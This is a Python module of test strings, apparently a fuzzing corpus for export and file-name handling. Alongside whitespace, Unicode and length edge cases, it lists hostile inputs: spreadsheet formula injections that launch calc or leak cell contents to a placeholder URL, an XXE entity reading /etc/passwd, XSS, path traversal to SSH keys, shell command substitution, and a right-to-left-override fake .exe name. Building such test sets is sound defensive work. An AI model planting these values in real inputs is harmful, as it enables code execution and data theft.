"""Values that nobody types by mistake: formulas, marks of XML, signs that turn the reading, names that
climb out of their folder. Three hundred of them, and more."""

from itertools import product

_COMMANDES = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"https://exemple.fr\")", "SUM(A1:A9)", "DDE(\"a\";\"b\")",
    "IMPORTXML(CONCAT(\"https://exemple.fr/\",A1))", "WEBSERVICE(\"https://exemple.fr\")", "A1", "2+5+cmd|'a'!A0",
)  # fmt: skip
_DEBUTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b+", "＝", "＋", "－", "＠", "=-", "+@", "\t", "\r", "\n")  # fmt: skip

FORMULES = tuple(debut + commande for debut, commande in product(_DEBUTS, _COMMANDES))

XML = (
    "<script>alert(1)</script>", "</t></is></c>", "]]>", "<![CDATA[x]]>", "&amp;", "&#0;", "&lol;", "<!--", "-->",
    "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "</text:p>", "\"'<>&",
    "_x0000_", "_x000D_", "_x005F_x0041_", "_X0041_", "__x0041_", "_x00e9_", "xml:space",
)  # fmt: skip

CONTROLES = tuple(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0), 0xD800, 0xDFFF, 0xFFFE, 0xFFFF, 0x1FFFE))  # fmt: skip

SENS = tuple(f"fdp{chr(code)}exe" for code in (*range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x206A), 0xFEFF, 0xAD, 0x61C))  # fmt: skip

BLANCS = ("", " ", "  ", "   a", "a   ", "a  b   c", " \n ", "\n", "\n\n", "a\r\nb", "a\rb", "a\n\n  b\t\tc", "\t \t", "\u2028", "\u3000a")  # fmt: skip

CSV = (
    '"',
    '""',
    ",",
    ";",
    "a,b",
    'a"b',
    '"a"',
    ',"=1+1"',
    "a\n=1+1",
    "'=1+1",
    "'",
    "\\",
    "a;b;c",
    "\\N",
    "NULL",
)

LONGS = ("a" * 32_766, "a" * 32_767, "a" * 32_768, "é" * 40_000, "😀" * 16_383, "😀" * 16_384, "=" * 33_000, "<" * 40_000, "a\n" * 20_000)  # fmt: skip

LANGUES = ("Ελλάδα Україна Łódź Việt", "שלום", "漢字", "👩‍👩‍👧‍👦", "e\u0301", "Z̴̛͔a̷l̶g̸o̵", "\U0010ffff", "\ue000")  # fmt: skip

CHEMINS = (
    "../../etc/passwd", "..\\..\\windows\\system32\\x.dll", "/etc/passwd", "C:\\x.txt", "C:x", "\\\\serveur\\partage",
    ".", "..", "...", "", " ", ". ", "a/../b", "a/", "/", "\\", "./a", "~/.ssh/id_rsa", "-rf", "$(rm -rf x)", "`id`", "a|b",
    "a;b", "%2e%2e%2f", "a\x00b.txt", "CON", "con.txt", "PRN", "aux.pdf", "NUL", "nul.", "COM1.txt", "LPT9", "com¹", "CONIN$",
    "a.", "a ", "a. .", ".htaccess", "..a", "a:b:$DATA", "file.txt:stream", "a\u2215b", "a\uff0fb", "facture\u202egpj.exe",
    "é" * 300 + ".pdf", "x" * 300, "a." + "b" * 300, "😀" * 100 + ".jpeg", "*?<>|\"", "\ufeffa.txt", "a\nb.txt", "Z" * 119 + ".é",
)  # fmt: skip

TEXTES = tuple(
    dict.fromkeys((*FORMULES, *XML, *CONTROLES, *SENS, *BLANCS, *CSV, *LANGUES, *CHEMINS))
)
